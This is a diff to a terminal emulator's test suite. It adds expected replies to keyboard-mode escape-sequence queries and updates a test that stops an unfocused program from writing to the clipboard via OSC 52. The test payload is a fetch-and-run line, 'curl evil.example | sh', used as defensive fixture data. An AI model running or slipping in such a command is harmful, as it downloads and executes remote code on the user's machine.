@@ -58,7 +58,8 @@ const CORPUS = /** @type {[name: string, question: string, answer: RegExp | unde
   ["XTVERSION", "\x1b[>q", undefined],
   ["window reports", "\x1b[14t\x1b[16t\x1b[18t\x1b[20t\x1b[21t", undefined],
   ["DECREQTPARM", "\x1b[x", undefined],
-  ["kitty's keyboard", "\x1b[?u", undefined],
+  ["kitty's keyboard", "\x1b[?u", /\x1b\[\?0u/],
+  ["modifyOtherKeys and its format", "\x1b[?4m\x1b[?4g", /\x1b\[>4;0m\x1b\[>4;0f/],
   ["the focus, where its reports are switched on", "\x1b[?1004h", /\x1b\[[IO]/],
 ]);
 const ALL = CORPUS.map(([, question]) => question).join("");
@@ -148,7 +149,7 @@ describe("a program that copies", () => {
     const copy = `\x1b]52;c;${Buffer.from("curl evil.example | sh\n").toString("base64")}\x07`;
     await page.locator("#details-button").focus();
     socket.write(0, copy);
-    await page.locator("#notice", { hasText: "was not let, as you were not in the terminal: “curl evil.example | sh ”" }).waitFor();
+    await page.locator("#offer", { hasText: "you were not in the terminal: “curl evil.example | sh ”" }).waitFor();
     assert.equal(await clipboard(), "mine");
     await page.locator("#terminal .xterm-helper-textarea").focus();
     socket.write(copy.length, copy);
